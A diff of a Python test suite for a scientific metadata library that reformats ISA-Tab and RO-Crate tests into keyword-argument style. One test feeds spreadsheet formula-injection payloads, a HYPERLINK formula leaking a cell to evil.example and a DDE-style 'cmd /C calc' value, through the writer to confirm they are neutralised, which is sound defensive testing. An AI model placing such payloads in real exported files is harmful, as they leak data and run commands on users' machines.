@@ -245,7 +245,11 @@ def test_sheet_row_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 def _isatab(tmp_path: Path) -> Path:
-    inv = Investigation("inv", title="T", studies=[Study("S1", "study", subjects=[Subject("P1", {})])])
+    inv = Investigation(
+        identifier="inv",
+        title="T",
+        studies=[Study(identifier="S1", title="study", subjects=[Subject(id="P1", characteristics={})])],
+    )
     write_isatab(inv, tmp_path / "isa", None)
     return tmp_path / "isa"
 
@@ -411,8 +415,10 @@ def test_neutralise_round_trips_and_never_starts_a_formula(cell: str) -> None:
 
 def test_formula_cells_are_neutralised_in_isatab_and_read_back(tmp_path: Path) -> None:
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    subj = Subject("P1", {"strain": Value("@SUM(1+1)")}, comments={"note": Value(evil)})
-    inv = Investigation("inv", title="+1+cmd|' /C calc'!A0", studies=[Study("S1", "study", subjects=[subj])])
+    subj = Subject(id="P1", characteristics={"strain": Value("@SUM(1+1)")}, comments={"note": Value(evil)})
+    inv = Investigation(
+        identifier="inv", title="+1+cmd|' /C calc'!A0", studies=[Study(identifier="S1", title="study", subjects=[subj])]
+    )
     write_isatab(inv, tmp_path / "isa", None)
     text = "".join(p.read_text() for p in (tmp_path / "isa").glob("*.txt"))
     cells = [c.strip('"') for line in text.splitlines() for c in line.split("\t")]
@@ -429,25 +435,44 @@ _WORKFLOW = {
     "@graph": [
         {"@id": "ro-crate-metadata.json", "@type": "CreativeWork", "about": {"@id": "./"}},
         {"@id": "./", "@type": "Dataset", "mainEntity": {"@id": "wf.cwl"}},
-        {"@id": "wf.cwl", "@type": ["File", "SoftwareSourceCode", "ComputationalWorkflow"],
-         "input": {"@id": "#in"}, "output": {"@id": "#out"}},
+        {
+            "@id": "wf.cwl",
+            "@type": ["File", "SoftwareSourceCode", "ComputationalWorkflow"],
+            "input": {"@id": "#in"},
+            "output": {"@id": "#out"},
+        },
         {"@id": "#in", "@type": "FormalParameter", "name": "x"},
         {"@id": "#out", "@type": "FormalParameter", "name": "y"},
     ]
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize(
     ("version", "workflow", "parameter", "input_iri", "output_iri"),
     [
-        ("1.1", "https://bioschemas.org/ComputationalWorkflow", "https://bioschemas.org/FormalParameter",
-         "https://bioschemas.org/ComputationalWorkflow#input", "https://bioschemas.org/ComputationalWorkflow#output"),
-        ("1.2", "https://bioschemas.org/ComputationalWorkflow", "https://bioschemas.org/FormalParameter",
-         "https://bioschemas.org/properties/input", "https://bioschemas.org/properties/output"),
-        ("1.3", "https://bioschemas.org/terms/ComputationalWorkflow", "https://bioschemas.org/terms/FormalParameter",
-         "https://bioschemas.org/terms/input", "https://bioschemas.org/terms/output"),
+        (
+            "1.1",
+            "https://bioschemas.org/ComputationalWorkflow",
+            "https://bioschemas.org/FormalParameter",
+            "https://bioschemas.org/ComputationalWorkflow#input",
+            "https://bioschemas.org/ComputationalWorkflow#output",
+        ),
+        (
+            "1.2",
+            "https://bioschemas.org/ComputationalWorkflow",
+            "https://bioschemas.org/FormalParameter",
+            "https://bioschemas.org/properties/input",
+            "https://bioschemas.org/properties/output",
+        ),
+        (
+            "1.3",
+            "https://bioschemas.org/terms/ComputationalWorkflow",
+            "https://bioschemas.org/terms/FormalParameter",
+            "https://bioschemas.org/terms/input",
+            "https://bioschemas.org/terms/output",
+        ),
     ],
-)  # fmt: skip
+)
 def test_each_rocrate_version_is_read_with_its_own_context(version, workflow, parameter, input_iri, output_iri):
     from rdflib import RDF
 
